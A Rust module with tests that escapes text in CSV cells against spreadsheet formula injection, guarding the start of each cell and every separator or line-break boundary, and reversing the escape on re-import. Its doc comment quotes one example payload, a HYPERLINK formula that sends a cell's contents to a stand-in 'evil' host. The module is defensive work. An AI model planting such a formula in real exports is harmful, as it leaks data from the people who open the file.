//! Text written into CSV cells that a spreadsheet program must show as
//! text and never evaluate, and the same text read back.
//!
//! A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
//! return, which some programs skip before looking) is read as a formula by
//! Excel, LibreOffice and Google Sheets: a comment such as
//! `=HYPERLINK("http://evil/?"&A1)` would run on the editor's machine
//! (OWASP, "CSV Injection"). A leading `'` makes those programs take the
//! cell as text.
//!
//! Guarding the start of each cell is not enough for CSV. The program
//! opening the file picks the separator (LibreOffice asks, Excel takes the
//! list separator of the locale, `;` in much of Europe) and may ignore the
//! quoting; a comment `see;=1+6;` in a comma-separated file then opens as
//! three cells, the middle one a formula, and a quoted cell holding a line
//! break followed by `=` can start a new row with a formula. So the CSV
//! rule ([`to_csv_cell`]) guards every *boundary*, where a reader may
//! start a cell: the start of the text and the place right after a
//! separator (`,` `;` tab `|`) or a line break (LF, CR). At each boundary
//! whose next character is a trigger (`=` `+` `-` `@` tab CR) or a `'`,
//! one `'` is inserted; after a separator or a line break, also before a
//! `"`. A reader that splits a cell there and honours quotes takes that
//! `"` as an opening quote, and whatever follows its closing one as the
//! cell (`x;"=1+1` read with `;` gives the cell `=1+1`). At the start of
//! a cell a `"` needs nothing: the writers quote every field, so a cell
//! always starts with the writer's own quote, and a reader that honours
//! quoting never splits a cell at all.
//!
//! Reading back ([`from_csv_cell`]) removes a `'` at a boundary when it is
//! followed by what that boundary guards: the exact inverse, since an
//! inserted `'` is no boundary character and leaves every boundary where
//! it was, and a `'` of the text at a boundary always got one more in
//! front. Text a person typed keeps a `'` before anything else.
//!
//! XLSX has no such rule: docket writes every workbook cell as a string,
//! which no spreadsheet program evaluates, and a `'` there would be shown
//! as part of the text (`export::xlsx`, `replies::xlsx`, `replies::grid`).
//! A workbook that comes back is still read with [`from_csv_cell`]: it may
//! be a CSV docket wrote, opened and saved as a workbook, its quotes now
//! part of the text (a response listing `\n- item` lines would otherwise
//! come back as `\n'- item`, see `reimport::sheet`). The price: text in a
//! workbook docket wrote that itself has a `'` at a boundary before what
//! the boundary guards (`'=x`, `a;'-b`) comes back without that `'`, as
//! the leading rule before this one already did at a cell's start.

use std::borrow::Cow;

/// Where a spreadsheet may start a new cell or row in the text.
fn is_boundary(byte: u8) -> bool {
    matches!(byte, b',' | b';' | b'\t' | b'|' | b'\n' | b'\r')
}

/// Whether a character `next` that follows the byte `before` (`None`:
/// the start of the text) gets a `'` in front: at a boundary (the start,
/// or right after a separator or a line break), a formula's first
/// character or a `'` (so reading back can tell the text's own from an
/// inserted one); inside the text, a `"` too (a reader starting a cell
/// there would take it as a quote). Every byte the rule looks at is
/// ASCII, so a position it finds is always between two characters.
fn guarded(before: Option<u8>, next: u8) -> bool {
    let trigger = matches!(next, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'');
    match before {
        None => trigger,
        Some(before) => is_boundary(before) && (trigger || next == b'"'),
    }
}

/// The byte before position `i`, if any.
fn before(bytes: &[u8], i: usize) -> Option<u8> {
    i.checked_sub(1).map(|j| bytes[j])
}

/// `text` as a CSV cell that no spreadsheet evaluates, however it splits
/// the file: a `'` before each guarded character at a boundary.
pub fn to_csv_cell(text: &str) -> Cow<'_, str> {
    let bytes = text.as_bytes();
    // Nearly every cell needs nothing: no copy then.
    let quoted = |i: usize| guarded(before(bytes, i), bytes[i]);
    let Some(first) = (0..bytes.len()).find(|&i| quoted(i)) else {
        return text.into();
    };
    let mut out = String::with_capacity(text.len() + 8);
    let mut copied = 0;
    for i in (first..bytes.len()).filter(|&i| quoted(i)) {
        out.push_str(&text[copied..i]);
        out.push('\'');
        copied = i;
    }
    out.push_str(&text[copied..]);
    out.into()
}

/// A CSV cell read back: each `'` that [`to_csv_cell`] inserted is taken
/// off; any other text is as it was.
pub fn from_csv_cell(cell: &str) -> Cow<'_, str> {
    let bytes = cell.as_bytes();
    // A `'` at a boundary before what the boundary guards. The position
    // after it is then no boundary (a `'` is no boundary character), so
    // the character a removed quote guarded is never taken for one.
    let inserted = |i: usize| {
        bytes[i] == b'\''
            && bytes
                .get(i + 1)
                .is_some_and(|&next| guarded(before(bytes, i), next))
    };
    let Some(first) = (0..bytes.len()).find(|&i| inserted(i)) else {
        return cell.into();
    };
    let mut out = String::with_capacity(cell.len());
    let mut copied = 0;
    for i in (first..bytes.len()).filter(|&i| inserted(i)) {
        out.push_str(&cell[copied..i]);
        copied = i + 1;
    }
    out.push_str(&cell[copied..]);
    out.into()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formula_characters_at_the_start_are_quoted_and_read_back() {
        for text in [
            "=1+1", "+44 20", "-5", "@SUM(A1)", "'=quoted", "'quoted'", "''",
        ] {
            let cell = to_csv_cell(text);
            assert_eq!(cell, format!("'{text}"));
            assert_eq!(from_csv_cell(&cell), text);
        }
    }

    #[test]
    fn every_boundary_is_guarded() {
        for (text, cell) in [
            ("see;=1+6;", "see;'=1+6;"),
            ("Semi;=2+2;", "Semi;'=2+2;"),
            ("a,+1|-2\t@3", "a,'+1|'-2\t'@3"),
            ("line\n=1+1", "line\n'=1+1"),
            ("line\r\n-1", "line\r\n'-1"),
            ("\t=x", "'\t'=x"),
            ("\r=x", "'\r'=x"),
            ("a;'b", "a;''b"),
            ("a;\"=1", "a;'\"=1"),
            ("x;", "x;"),
            ("x;'", "x;''"),
            ("\"=1\";\"=2\"", "\"=1\";'\"=2\""),
        ] {
            assert_eq!(to_csv_cell(text), cell, "{text:?}");
            assert_eq!(from_csv_cell(cell), text, "{cell:?}");
        }
    }

    #[test]
    fn other_text_is_untouched_both_ways() {
        for text in [
            "5.1",
            "Scope",
            "",
            "it's",
            "a=b",
            "1-2",
            "a; b",
            "a - b",
            "Ünïcode;x",
        ] {
            assert_eq!(to_csv_cell(text), text);
            assert!(matches!(to_csv_cell(text), Cow::Borrowed(_)));
            assert_eq!(from_csv_cell(text), text);
        }
        // A quote typed by hand before something harmless stays.
        assert_eq!(from_csv_cell("'quoted'"), "'quoted'");
        assert_eq!(from_csv_cell("a;'b"), "a;'b");
    }

    /// Text made of what the rule looks at, and a little else.
    fn tricky() -> impl Strategy<Value = String> {
        proptest::collection::vec(
            prop_oneof![
                proptest::sample::select(vec![
                    '=', '+', '-', '@', '\t', '\r', '\n', '\'', '"', ',', ';', '|', ' ', 'a', 'é',
                ]),
                any::<char>(),
            ],
            0..24,
        )
        .prop_map(|chars| chars.into_iter().collect())
    }

    proptest! {
        #[test]
        fn any_text_reads_back_exactly(text in tricky()) {
            let cell = to_csv_cell(&text);
            prop_assert_eq!(from_csv_cell(&cell), text.as_str());
        }

        #[test]
        fn no_boundary_of_a_cell_starts_a_formula(text in tricky()) {
            let cell = to_csv_cell(&text);
            // A cell's own start is its writer's quote: a `"` of the text
            // can only start a cell a reader splits off inside it.
            for (n, piece) in cell.split([',', ';', '\t', '|', '\n', '\r']).enumerate() {
                prop_assert!(
                    !piece.starts_with(['=', '+', '-', '@']) && (n == 0 || !piece.starts_with('"')),
                    "{:?} in {:?}", piece, cell
                );
            }
        }

        #[test]
        fn reading_never_fails(cell in any::<String>()) {
            let _ = from_csv_cell(&cell);
        }
    }
}
